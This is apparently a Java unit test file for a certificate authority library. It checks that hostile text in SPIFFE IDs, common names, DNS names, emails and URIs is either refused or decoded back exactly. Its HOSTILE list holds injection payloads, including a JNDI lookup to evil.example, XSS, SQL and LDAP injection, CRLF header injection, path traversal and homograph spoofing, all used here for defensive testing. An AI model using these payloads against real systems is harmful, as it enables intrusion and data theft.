package dev.signet.ca.certificate;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.signet.ca.TestCertificates;
import dev.signet.ca.TestCertificates.SubjectKeyType;
import dev.signet.ca.identity.SpiffeId;

import org.bouncycastle.asn1.ASN1String;
import org.bouncycastle.asn1.x500.style.BCStyle;
import org.bouncycastle.asn1.x509.Extension;
import org.bouncycastle.asn1.x509.GeneralName;
import org.bouncycastle.asn1.x509.GeneralNames;
import org.bouncycastle.cert.X509CertificateHolder;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.security.cert.X509Certificate;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;

import javax.naming.ldap.LdapName;

class NamesTest {

    private static final Instant NOW = Instant.parse("2026-11-23T10:00:00Z");

    /// Text that means something in JSON, templates, SQL, LDAP, HTTP, names, URIs, paths, or to the
    /// eye.
    private static final List<String> HOSTILE =
            List.of(
                    "a\", \"admin\": \"true",
                    "\"}],\"x\":[{",
                    "${jndi:ldap://evil.example/a}",
                    "{{ .Token }}",
                    "<script>alert(1)</script>",
                    "' OR 1=1 --",
                    "*)(uid=*))(|(uid=*",
                    "cn=admin,dc=example,dc=org",
                    "a,b",
                    "a+b",
                    "a+CN=admin",
                    "a,CN=admin",
                    "a\\,b",
                    "a\\",
                    "a;b<c>d=e\"f",
                    "a\r\nSet-Cookie: x=y",
                    "line\nline",
                    "tab\t",
                    "nul\u0000byte",
                    "bell\u0007",
                    "a\u202egpj.exe",
                    "a\u200bb",
                    "a\ufeff",
                    "a\u2028b",
                    "half\ud800",
                    "private\ue000",
                    "Straße",
                    "\u0430pple.com",
                    "xn--pple-43d.com",
                    "e\u0301",
                    "\ud83d\ude00",
                    "../../etc/passwd",
                    "a/b",
                    "a%00b",
                    "a%2e%2e",
                    " leading",
                    "trailing ",
                    "two  spaces",
                    "#hash",
                    "",
                    ".",
                    "..",
                    "plain",
                    "a".repeat(3_000),
                    "a@b@c",
                    "a@b.example",
                    "a@[127.0.0.1]",
                    "a@b.example, c@d.example",
                    "spiffe://example.org/admin",
                    "SPIFFE://example.org/admin",
                    "URI:spiffe://example.org/admin",
                    "https://example.org/a,URI:spiffe://example.org/admin",
                    "https://example.org/a b",
                    "https:///nowhere",
                    "javascript:alert(1)",
                    "https://user:pass@example.org/",
                    "127.0.0.1",
                    "*.example.org",
                    "*.*.example.org");

    /// Where text may end up in a certificate.
    private enum Place {
        SPIFFE_SEGMENT {
            @Override
            CertificateContent content(String text) {
                SpiffeId id = new SpiffeId(RandomContents.DOMAIN, "/a/" + text);
                return NamesTest.content(id, AlternativeNames.NONE, SubjectName.EMPTY);
            }

            @Override
            List<String> wanted(String text) {
                return List.of("spiffe://example.org/a/" + text);
            }
        },
        COMMON_NAME {
            @Override
            CertificateContent content(String text) {
                return withSubject(SubjectName.Type.COMMON_NAME, text);
            }
        },
        COUNTRY {
            @Override
            CertificateContent content(String text) {
                return withSubject(SubjectName.Type.COUNTRY, text);
            }
        },
        DNS_NAME {
            @Override
            CertificateContent content(String text) {
                return withNames(
                        new AlternativeNames(List.of(text), List.of(), List.of(), List.of()));
            }
        },
        EMAIL {
            @Override
            CertificateContent content(String text) {
                return withNames(
                        new AlternativeNames(List.of(), List.of(), List.of(text), List.of()));
            }
        },
        URI {
            @Override
            CertificateContent content(String text) {
                return withNames(
                        new AlternativeNames(List.of(), List.of(), List.of(), List.of(text)));
            }
        };

        /// @throws IllegalArgumentException when the text cannot be there
        abstract CertificateContent content(String text);

        List<String> wanted(String text) {
            return List.of("spiffe://example.org/a", text);
        }

        private static CertificateContent withNames(AlternativeNames names) {
            return NamesTest.content(
                    new SpiffeId(RandomContents.DOMAIN, "/a"), names, SubjectName.EMPTY);
        }

        private static CertificateContent withSubject(SubjectName.Type type, String text) {
            return NamesTest.content(
                    new SpiffeId(RandomContents.DOMAIN, "/a"),
                    AlternativeNames.NONE,
                    new SubjectName(List.of(new SubjectName.Attribute(type, text))));
        }
    }

    @ParameterizedTest
    @EnumSource(Place.class)
    void R13_hostileTextIsRefusedOrReadBackAsGiven(Place place) throws Exception {
        int refused = 0;
        for (String text : HOSTILE) {
            CertificateContent content;
            try {
                content = place.content(text);
            } catch (IllegalArgumentException _) {
                refused++;
                continue;
            }
            byte[] der = CertificateEncoderTest.signed(content);
            assertThat(CertificateLint.firstDefect(der, content)).as(text).isEmpty();
            assertThat(byJdk(TestCertificates.parse(der))).isEqualTo(place.wanted(text));
            assertThat(byBouncyCastle(new X509CertificateHolder(der)))
                    .isEqualTo(place.wanted(text));
        }
        if (place == Place.COUNTRY) {
            assertThat(refused).isEqualTo(HOSTILE.size());
        } else {
            assertThat(refused).isBetween(10, HOSTILE.size() - 1);
        }
    }

    @Test
    void R13_theTextOfNamesIsUnambiguous() {
        AlternativeNames one =
                new AlternativeNames(
                        List.of(),
                        List.of(),
                        List.of(),
                        List.of("https://a.example/x,DNS:b.example"));
        AlternativeNames two =
                new AlternativeNames(
                        List.of("b.example"), List.of(), List.of(), List.of("https://a.example/x"));

        assertThat(one.text()).isEqualTo("URI:https://a.example/x\\,DNS:b.example");
        assertThat(two.text()).isEqualTo("DNS:b.example,URI:https://a.example/x");
    }

    /// Clients take each for an IPv4 address, in which no name constraint and no rule sees one.
    @ParameterizedTest
    @ValueSource(
            strings = {
                "10.0.0.1",
                "2130706433",
                "0x7f.1",
                "0x7f000001",
                "127.0x1",
                "0177.0.0.01",
                "1.2",
                "a.1",
                "example.0x",
                "*.1"
            })
    void anAddressIsNoDnsName(String text) {
        assertThat(AlternativeNames.isDnsName(text)).isFalse();
        assertThatThrownBy(
                        () -> new AlternativeNames(List.of(text), List.of(), List.of(), List.of()))
                .isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() ->
                        new AlternativeNames(List.of(), List.of(), List.of("a@" + text), List.of()))
                .isInstanceOf(IllegalArgumentException.class);
    }

    @ParameterizedTest
    @ValueSource(strings = {"1.example", "10.0.0.1.nip.io", "0x7f.example", "1a", "0xg", "*.a1"})
    void numbersBeforeTheLastLabelAreNames(String text) {
        assertThat(AlternativeNames.isDnsName(text)).isTrue();
    }

    @Test
    void namesAndSubjectsThatNoRecordHoldsAreRefused() {
        List<String> uris = new ArrayList<>();
        for (int i = 0; i < 20; i++) {
            uris.add("https://example.org/" + i + "/" + "a".repeat(2_000));
        }
        assertThatThrownBy(() -> new AlternativeNames(List.of(), List.of(), List.of(), uris))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("32768");
        var attribute = new SubjectName.Attribute(SubjectName.Type.LOCALITY, "\"".repeat(128));
        assertThatThrownBy(() -> new SubjectName(Collections.nCopies(16, attribute)))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("2048");
    }

    private static CertificateContent content(
            SpiffeId id, AlternativeNames names, SubjectName subject) {
        byte[] random = new byte[SerialNumber.RANDOM_LENGTH];
        Validity validity = Validity.of(NOW, Duration.ofHours(1));
        return new CertificateContent(
                SerialNumber.of(validity.notAfter(), random),
                CertificateEncoderTest.issuer(SignatureAlgorithm.ECDSA_P256_SHA256),
                validity,
                id,
                names,
                subject,
                CertificateEncoderTest.key(SubjectKeyType.P256),
                CertificateProfile.WORKLOAD,
                CertificateProfile.WORKLOAD.extendedKeyUsages());
    }

    private static List<String> byJdk(X509Certificate certificate) throws Exception {
        List<String> texts = new ArrayList<>();
        for (List<?> name : certificate.getSubjectAlternativeNames()) {
            texts.add((String) name.get(1));
        }
        for (var relative :
                new LdapName(certificate.getSubjectX500Principal().getName()).getRdns()) {
            texts.add((String) relative.getValue());
        }
        return texts;
    }

    private static List<String> byBouncyCastle(X509CertificateHolder certificate) {
        List<String> texts = new ArrayList<>();
        GeneralNames names =
                GeneralNames.fromExtensions(
                        certificate.getExtensions(), Extension.subjectAlternativeName);
        for (GeneralName name : names.getNames()) {
            texts.add(((ASN1String) name.getName()).getString());
        }
        for (var type : List.of(BCStyle.CN, BCStyle.C)) {
            for (var relative : certificate.getSubject().getRDNs(type)) {
                texts.add(((ASN1String) relative.getFirst().getValue()).getString());
            }
        }
        return texts;
    }
}
